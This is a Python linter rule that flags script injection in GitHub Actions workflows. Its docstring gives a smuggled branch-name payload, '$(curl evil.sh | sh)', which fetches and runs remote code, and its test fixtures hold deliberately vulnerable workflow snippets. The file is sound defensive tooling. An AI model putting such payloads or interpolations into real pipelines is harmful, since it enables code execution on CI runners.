"""CIC103 script-injection."""

from __future__ import annotations

import re
from collections.abc import Iterator

from mlopslint.facts.tree import Map, as_map
from mlopslint.lint.base import File, FileRule, Problem
from mlopslint.lint.workflows import root_of, scripts_of, steps_of

_UNTRUSTED = re.compile(
    r"github\.head_ref|github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)|github\.event\.(?:comment|review|review_comment)\.body"
    r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)|github\.event\.(?:head_commit|commits\S*)\.(?:message|author\.(?:name|email))"
    r"|github\.event\.workflow_run\.(?:head_branch|head_commit\.message|display_title)|github\.event\.pages\S*\.page_name"
)


class ScriptInjection(FileRule):
    """Text that anybody can write becomes part of a script.

    What it does
    ------------
    Finds expressions such as ``${{ github.event.issue.title }}`` or ``${{ github.head_ref }}`` inside ``run`` and
    the scripts of ``actions/github-script``.

    Why is this bad?
    ----------------
    The text is put in before the shell reads it: a branch named ``$(curl evil.sh | sh)`` runs.

    Example
    -------
    ::

        - run: echo "${{ github.event.pull_request.title }}"

    Use instead
    -----------
    ::

        - run: echo "$TITLE"
          env:
            TITLE: ${{ github.event.pull_request.title }}

    References
    ----------
    - GitHub, "Understanding the risk of script injections": https://docs.github.com/en/actions/security-for-github-
      actions/security-guides/security-hardening-for-github-actions
    - Known from zizmor (template-injection) and actionlint.
    """

    code = "CIC103"
    name = "script-injection"
    severity = "error"
    kinds = ("github-workflow", "github-action")

    def check(self, file: File) -> Iterator[Problem]:
        for step in steps_of(root_of(file)):
            texts = list(scripts_of(step))
            uses, given = str(step.body.get("uses") or ""), as_map(step.body.get("with"))
            if uses.startswith("actions/github-script") and isinstance(given.get("script"), str):
                first = given.content.get("script", step.line) if isinstance(given, Map) else step.line
                texts += [(first + i, row) for i, row in enumerate(given["script"].split("\n"))]
            for line, row in texts:
                for match in re.finditer(r"\$\{\{(.{0,300}?)\}\}", row):
                    found = _UNTRUSTED.search(match.group(1))
                    if found:
                        yield file.problem(
                            line,
                            f"{found.group()} is text that anybody can write; pass it through env",
                            part=match.group(),
                        )

    GOOD = (
        {
            ".github/workflows/ci.yml": 'on: push\njobs:\n  a:\n    steps:\n      - run: echo "${{ github.sha }}"\n      - run: echo "$T"\n        env:\n          T: ${{ github.event.issue.title }}\n'
        },
    )
    BAD = (
        {
            ".github/workflows/ci.yml": 'on: push\njobs:\n  a:\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n'
        },
        {
            ".github/workflows/ci.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          git checkout ${{ github.head_ref }}\n"
        },
        {
            ".github/workflows/ci.yml": "on: push\njobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            f('${{ github.event.comment.body }}')\n"
        },
    )
